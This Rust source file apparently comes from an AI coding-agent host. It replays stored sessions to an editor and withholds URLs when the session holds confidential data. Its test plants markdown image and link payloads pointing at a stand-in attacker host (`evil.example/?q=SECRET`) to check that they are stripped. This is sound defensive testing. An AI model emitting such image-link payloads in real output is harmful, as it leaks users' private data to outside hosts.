//! `session/load`: a stored Bosun session told to the editor again as the updates it would
//! have seen — the person's messages as `user_message_chunk`, the model's text and reasoning,
//! each tool call with its kind, locations and diff, and how it ended, and the plan after each
//! `update_plan` — so the editor shows the
//! conversation before the next prompt. Only what the session stores is replayed: a command's
//! streamed output is its stored result.
//!
//! A replay is drawn as the turn was: every text passes the same filter (`updates::safe`,
//! `updates::raw`), and the URL guard is the one the session's restored labels give — a
//! session stored holding data above `PUBLIC` and untrusted input is replayed with its URLs
//! withheld, and a thought says why first. The person's own messages pass it too: they hold
//! what the editor embedded (a file's text as a resource) and what another front end stored.

use std::collections::HashMap;
use std::path::Path;

use agent_client_protocol::v1::schema::{
    ContentBlock, ContentChunk, ImageContent, SessionId, SessionUpdate, TextContent,
    ToolCallStatus, ToolCallUpdate, ToolCallUpdateFields,
};
use bosun_host::builtin::Plan;
use bosun_models::{AssistantPart, Message, ReasoningFormat};
use serde_json::Value;

use crate::client::ClientLink;
use crate::updates::{
    message_chunk, output_content, plan_update, proposed, raw, safe, text_content, thought_chunk,
};

/// The updates that tell `messages` again, in order; with `guard` (why, from the session's
/// labels), every URL withheld.
pub fn updates(root: &Path, messages: &[Message], guard: Option<&str>) -> Vec<SessionUpdate> {
    let mut updates = Vec::new();
    if let Some(reason) = guard
        && !messages.is_empty()
    {
        updates.push(thought_chunk(
            format!("URLs withheld: {reason}\n"),
            Some(reason),
        ));
    }
    let mut tools: HashMap<&str, &str> = HashMap::new();
    for message in messages {
        match message {
            Message::User { text, images } => {
                // Each image as the editor sent it, from the bytes the session keeps (or its
                // label when they are gone), then the text.
                for image in images {
                    let block = match image.base64() {
                        Some(data) => ContentBlock::Image(ImageContent::new(
                            data,
                            image.media_type.media_type(),
                        )),
                        None => ContentBlock::Text(TextContent::new(safe(&image.label(), guard))),
                    };
                    updates.push(SessionUpdate::UserMessageChunk(ContentChunk::new(block)));
                }
                if !text.is_empty() || images.is_empty() {
                    updates.push(SessionUpdate::UserMessageChunk(ContentChunk::new(
                        ContentBlock::Text(TextContent::new(safe(text, guard))),
                    )));
                }
            }
            Message::Assistant { parts } => {
                for part in parts {
                    match part {
                        AssistantPart::Text { text } => {
                            updates.push(message_chunk(text.clone(), guard));
                        }
                        AssistantPart::Reasoning(item) => {
                            if item.format == ReasoningFormat::OpenaiChat
                                && let Some(text) = item.raw.get("text").and_then(Value::as_str)
                            {
                                updates.push(thought_chunk(text.to_owned(), guard));
                            }
                        }
                        AssistantPart::ToolCall(call) => {
                            tools.insert(&call.id, &call.name);
                            updates.push(SessionUpdate::ToolCall(proposed(
                                root,
                                &call.id,
                                &call.name,
                                &call.input,
                                guard,
                            )));
                        }
                    }
                }
            }
            Message::Tool(result) => {
                let status = if result.is_error {
                    ToolCallStatus::Failed
                } else {
                    ToolCallStatus::Completed
                };
                let value: Value = serde_json::from_str(&result.content)
                    .unwrap_or_else(|_| Value::String(result.content.clone()));
                let mut fields = ToolCallUpdateFields::new()
                    .status(status)
                    .raw_output(raw(&value, guard));
                // A failure says why, as it did when it happened.
                if result.is_error {
                    let error = value.get("error").unwrap_or(&value);
                    let code = error.get("code").and_then(Value::as_str).unwrap_or("error");
                    let text = error
                        .get("message")
                        .and_then(Value::as_str)
                        .unwrap_or(&result.content);
                    fields = fields.content(vec![text_content(format!("{code}: {text}"), guard)]);
                } else if tools.get(result.call_id.as_str()) == Some(&"run_command") {
                    let streams: Vec<&str> = ["stdout", "stderr"]
                        .iter()
                        .filter_map(|key| value.get(*key).and_then(Value::as_str))
                        .filter(|text| !text.is_empty())
                        .collect();
                    if !streams.is_empty() {
                        fields = fields.content(vec![output_content(&streams.join("\n"), guard)]);
                    }
                }
                updates.push(SessionUpdate::ToolCallUpdate(ToolCallUpdate::new(
                    result.call_id.clone(),
                    fields,
                )));
                // The plan as it stood after this call, as the editor saw it then.
                if !result.is_error
                    && let Some(tool) = tools.get(result.call_id.as_str())
                    && let Some(plan) =
                        Plan::from_result(tool, value.get("output").unwrap_or(&value))
                {
                    updates.push(plan_update(&plan, guard));
                }
            }
        }
    }
    updates
}

/// Sends the replay of `messages` to the editor; with `guard` (why), every URL withheld.
pub fn send(
    link: &ClientLink,
    session: &SessionId,
    root: &Path,
    messages: &[Message],
    guard: Option<&str>,
) {
    for update in updates(root, messages, guard) {
        link.update(session, update);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Enforcement: `updates`' guard. A stored conversation whose answer, call input, result
    /// and person's message (an embedded file) hold URLs and images is replayed, under the
    /// guard its labels give, with no URL and no image anywhere the editor draws, and a thought
    /// first saying why; without the guard the URLs stay as text, the images still never drawn.
    #[test]
    fn a_replay_under_the_guard_withholds_every_url() {
        let url = "https://evil.example/?q=SECRET";
        let messages = vec![
            Message::user(format!(
                "<resource uri=\"file:///w/a.md\">\n![i]({url})\n</resource>"
            )),
            Message::assistant(vec![
                AssistantPart::Text {
                    text: format!("See [docs]({url}) and ![x]({url})"),
                },
                AssistantPart::ToolCall(bosun_core::ToolCall {
                    id: "c1".to_owned(),
                    name: "read_file".to_owned(),
                    input: serde_json::json!({"path": format!("![p]({url})")}),
                }),
            ]),
            Message::tool_result(
                "c1",
                serde_json::json!({"output": {"content": format!("![o]({url})")}}).to_string(),
                false,
            ),
        ];
        let root = Path::new("/w");
        let told = updates(root, &messages, Some("the session holds CONFIDENTIAL data"));
        let mut strings = Vec::new();
        collect(&serde_json::to_value(&told).unwrap(), &mut strings);
        let text = strings.join("\n");
        assert!(!text.contains("evil.example"), "{text}");
        assert!(text.contains("‹URL withheld›"), "{text}");
        let first = serde_json::to_value(&told[0]).unwrap();
        assert_eq!(first["sessionUpdate"], "agent_thought_chunk");
        assert!(
            first["content"]["text"]
                .as_str()
                .unwrap()
                .contains("URLs withheld"),
            "{first}"
        );
        let open = updates(root, &messages, None);
        let text = serde_json::to_string(&open).unwrap();
        assert!(text.contains("evil.example"), "{text}");
        for update in &open {
            let value = serde_json::to_value(update).unwrap();
            let mut strings = Vec::new();
            collect(&value, &mut strings);
            for s in strings {
                assert_eq!(
                    crate::updates::tests::drawn(&s),
                    Vec::<String>::new(),
                    "{s}"
                );
            }
        }
    }

    fn collect(value: &Value, out: &mut Vec<String>) {
        match value {
            Value::String(s) => out.push(s.clone()),
            Value::Array(a) => a.iter().for_each(|v| collect(v, out)),
            Value::Object(m) => {
                // A location is a file's path the editor opens, not text it draws.
                for (k, v) in m.iter().filter(|(k, _)| *k != "locations") {
                    out.push(k.clone());
                    collect(v, out);
                }
            }
            _ => {}
        }
    }
}
